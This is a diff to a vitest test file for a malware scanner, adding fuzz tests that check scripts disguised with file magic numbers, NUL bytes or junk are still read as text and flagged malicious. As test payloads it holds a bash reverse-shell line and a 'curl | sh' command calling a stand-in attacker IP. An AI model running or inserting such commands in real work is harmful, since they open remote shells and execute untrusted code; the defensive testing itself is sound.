@@ -1,5 +1,7 @@
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { binaryFormat, isNativeExecutable, readFileContent } from '#core/scan/file-content';
+import { scanFiles } from '#core/scan/scan';
 
 const bytes = (...b: number[]) => Uint8Array.from(b);
 const ascii = (s: string) => Uint8Array.from(Buffer.from(s, 'latin1'));
@@ -55,10 +57,13 @@ describe('telling text from binary', () => {
   });
 
   // Each of these was binary, and so unscanned, before: a printable magic number or one NUL byte was enough.
-  it.each(['ID3=1', 'RIFF=1', 'OggS=1', 'BZh=1', 'GIF89a=1', 'GIF87a=1', '%PDF-1=1', 'OTTO=1', 'fLaC=1'])('reads a script that opens with %s as text', (prefix) => {
-    const script = `${prefix}\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n`;
-    expect(readFileContent(ascii(script))).toEqual({ kind: 'text', text: script });
-  });
+  it.each(['ID3=1', 'RIFF=1', 'OggS=1', 'BZh=1', 'GIF89a=1', 'GIF87a=1', '%PDF-1=1', 'OTTO=1', 'fLaC=1'])(
+    'reads a script that opens with %s as text',
+    (prefix) => {
+      const script = `${prefix}\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n`;
+      expect(readFileContent(ascii(script))).toEqual({ kind: 'text', text: script });
+    },
+  );
 
   it('reads a script with one NUL byte in a comment as text', () => {
     const script = '#!/bin/sh\n# \0\ncurl -fsSL http://203.0.113.9/x | sh\n';
@@ -72,5 +77,26 @@ describe('telling text from binary', () => {
     expect(content.kind).toBe('binary');
     const lines = content.kind === 'binary' ? content.strings.split('\n') : [];
     expect(lines.some((l) => l.trim() === 'curl -fsSL http://203.0.113.9/x | sh')).toBe(true);
+  });
+});
+
+describe('binary-looking text, fuzzed', () => {
+  const payload = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n';
+  it('never hides a payload behind a printable magic number, NUL bytes or junk', () => {
+    fc.assert(
+      fc.property(
+        fc.constantFrom('ID3', 'RIFF', 'OggS', 'BZh', 'GIF89a', 'GIF87a', '%PDF-', 'OTTO', 'ttcf', 'wOFF', 'fLaC', 'Rar!', '\x89PNG\r\n\x1a\n', '\x7fELF', ''),
+        fc.string({ maxLength: 40 }),
+        fc.array(fc.integer({ min: 0, max: 255 }), { maxLength: 600 }),
+        fc.boolean(),
+        (magic, text, junk, junkFirst) => {
+          const parts = [Buffer.from(`${magic}=1\n${text.replace(/\n/g, ' ')}\n`, 'latin1'), Buffer.from(junk)];
+          if (junkFirst) parts.reverse();
+          const bytes = Uint8Array.from(Buffer.concat([...parts, Buffer.from(`\n${payload}`)]));
+          expect(scanFiles([{ filename: 'run.sh', bytes }]).verdict).toBe('malicious');
+        },
+      ),
+      { numRuns: 300 },
+    );
   });
 });
